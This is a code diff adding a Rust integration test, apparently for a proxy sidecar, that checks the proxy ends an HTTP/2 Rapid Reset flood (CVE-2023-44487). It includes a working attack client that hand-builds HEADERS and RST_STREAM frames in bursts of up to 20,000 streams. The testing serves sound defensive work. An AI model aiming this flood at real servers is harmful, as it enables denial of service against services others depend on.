@@ -143,6 +143,74 @@ async fn http2_garbage_ends_its_connection_only() -> anyhow::Result<()> {
     Ok(())
 }
 
+/// An HTTP/2 client that calls off each request with the frame after it (CVE-2023-44487), `burst` at a time, each time when
+/// the proxy has looked at what came before. Gives how many it got rid of before the connection was ended.
+async fn rapid_reset(address: SocketAddr, burst: u32) -> anyhow::Result<u32> {
+    const MOST: u32 = 100_000;
+    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
+        let length = u8::try_from(payload.len()).unwrap_or(u8::MAX);
+        [&[0, 0, length, kind, flags], &stream.to_be_bytes()[..], payload].concat()
+    };
+    // :method GET, :scheme http, :path /, :authority reviews, by the tables of HPACK.
+    let head = [b"\x82\x86\x84\x41\x07".as_slice(), b"reviews"].concat();
+    let (mut reader, mut writer) = connect(address).await?.into_split();
+    let settings = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(4, 0, 0, b"")].concat();
+    writer.write_all(&settings).await?;
+    let mut sent = 0;
+    while sent < MOST {
+        let mut bytes = Vec::new();
+        for _ in 0..burst {
+            let stream = sent * 2 + 1;
+            bytes.extend(frame(1, 5, stream, &head));
+            // RST_STREAM, CANCEL.
+            bytes.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
+            sent += 1;
+        }
+        // PING.
+        bytes.extend(frame(6, 0, 0, b"are you?"));
+        if bounded("room for frames", writer.write_all(&bytes)).await?.is_err() {
+            return Ok(sent);
+        }
+        // Until it is answered.
+        loop {
+            let mut head = [0; 9];
+            if bounded("a frame", reader.read_exact(&mut head)).await?.is_err() {
+                return Ok(sent);
+            }
+            let length = usize::from(u16::from_be_bytes([head[1], head[2]]));
+            let mut payload = vec![0; length];
+            if bounded("a payload", reader.read_exact(&mut payload)).await?.is_err() {
+                return Ok(sent);
+            }
+            if head[3] == 6 && head[4] == 1 && payload == b"are you?" {
+                break;
+            }
+        }
+    }
+    anyhow::bail!("the proxy puts up with all of {MOST}")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_rapid_reset_attack_is_ended() -> anyhow::Result<()> {
+    let scene = Scene::meshed(&["v1"], "").await?;
+    let mut neighbour = scene.caller().connection().await?;
+    let sides = [
+        (scene.client.outbound(), "outbound", &scene.client),
+        ((scene.servers[0].address, 8080).into(), "inbound", &scene.servers[0]),
+    ];
+    for (address, side, sidecar) in sides {
+        // As much as it likes at once, and so little at a time that each request is begun.
+        for (attack, burst) in [(1.0, 20_000), (2.0, 100)] {
+            let sent = rapid_reset(address, burst).await?;
+            ensure!(sent <= 20_000, "{side} {burst}: {sent}");
+            let request = Request::get(URL).header("host", "reviews").body(Bytes::new())?;
+            ensure!(neighbour.send(request).await?.status == 200);
+            counted(sidecar, ERRORS, &[("side", side), ("kind", "flood")], attack)?;
+        }
+    }
+    Ok(())
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn tls_garbage_ends_its_connection_only() -> anyhow::Result<()> {
     let scene = Scene::meshed(&["v1"], "").await?;
